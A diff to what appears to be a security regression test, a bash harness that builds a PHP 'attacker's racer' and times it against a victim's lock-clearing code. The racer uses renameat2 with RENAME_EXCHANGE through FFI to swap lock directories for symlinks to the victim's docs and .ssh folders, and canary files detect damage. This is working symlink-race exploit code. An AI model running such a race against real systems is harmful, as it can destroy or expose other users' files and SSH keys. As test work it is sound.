@@ -119,11 +119,12 @@ PHP
   # The attacker's racer for a token it can write: in the token (followed
   # through the victim's rename by the working directory), each NAME (a
   # directory) is exchanged with a link to TARGET by renameat2
-  # (RENAME_EXCHANGE, through FFI), again and again, until SECONDS pass.
+  # (RENAME_EXCHANGE, through FFI), again and again, until STOP exists or
+  # SECONDS pass; prints how many exchanges succeeded.
   cat >"$work/bin/flip.php" <<'PHP'
 <?php
-[, $dir, $ready, $seconds] = $argv;
-$pairs = array_map(fn ($p) => explode('=', $p, 2), array_slice($argv, 4));
+[, $dir, $ready, $stop, $seconds] = $argv;
+$pairs = array_map(fn ($p) => explode('=', $p, 2), array_slice($argv, 5));
 chdir($dir) || exit(1);
 foreach ($pairs as [$n, $target]) {
     symlink($target, "$n.link") || exit(1);
@@ -131,11 +132,13 @@ foreach ($pairs as [$n, $target]) {
 $libc = FFI::cdef('int renameat2(int, const char *, int, const char *, unsigned int);', 'libc.so.6');
 touch($ready) || exit(1);
 $end = hrtime(true) + (int) ($seconds * 1e9);
-for ($i = 0; ($i & 1023) !== 0 || hrtime(true) < $end; ++$i) {
+$done = 0;
+for ($i = 1; ($i & 1023) !== 0 || (hrtime(true) < $end && !file_exists($stop)); ++$i) {
     foreach ($pairs as [$n]) {
-        $libc->renameat2(-100, $n, -100, "$n.link", 2);
+        $done += $libc->renameat2(-100, $n, -100, "$n.link", 2) === 0 ? 1 : 0;
     }
 }
+echo "$done\n";
 PHP
   chmod 0644 "$work/bin"/*.php
 }
@@ -208,10 +211,10 @@ clearing_race_php() {
   if [ "$kind" = legacy ]; then lock=$sticky/$label.lock; else lock=$group_locks/$label.lock; fi
   start=$SECONDS
   for ((try = 1; try <= tries && SECONDS - start < race_seconds; try++)); do
-    rm -f "$s.ready"
+    rm -f "$s.ready" "$s.stop"
     if [ "$kind" = legacy ]; then
       fill_legacy_lock "$lock"
-      "${as_attacker[@]}" php -d ffi.enable=1 "$work/bin/flip.php" "$lock/$stale_token" "$s.ready" 10 \
+      "${as_attacker[@]}" php -d ffi.enable=1 "$work/bin/flip.php" "$lock/$stale_token" "$s.ready" "$s.stop" 10 \
         "docs=$home/docs" ".ssh=$home/.ssh" >"$s.racer" 2>&1 &
     else
       fill_group_lock "$lock"
@@ -223,10 +226,16 @@ clearing_race_php() {
     # shellcheck disable=SC2086 # $victim_env is a list of assignments
     "${as_victim[@]}" env $victim_env php "$work/bin/lock.php" "$module" "$lock" 2>"$s.err"
     rc=$?
-    kill "$racer_pid" 2>/dev/null
+    # flip.php stops at $s.stop and prints its count of exchanges (10 s at
+    # most); racer.c prints the token it swapped, and is stopped.
+    touch "$s.stop"
+    [ "$kind" = legacy ] || kill "$racer_pid" 2>/dev/null
     wait "$racer_pid" 2>/dev/null
-    # racer.c prints the token it swapped; flip.php exchanges all along.
-    [ "$kind" = legacy ] || [ -s "$s.racer" ] && swapped=$((swapped + 1))
+    if [ "$kind" = legacy ]; then
+      [ "$(head -1 "$s.racer")" -gt 0 ] 2>/dev/null && swapped=$((swapped + 1))
+    else
+      [ -s "$s.racer" ] && swapped=$((swapped + 1))
+    fi
     left=$(canaries_left)
     if [ "$left" != 200 ]; then
       problems="try $try: canary files left $left of 200 (the victim's PHP exited $rc: $(first_line "$s.err"))"
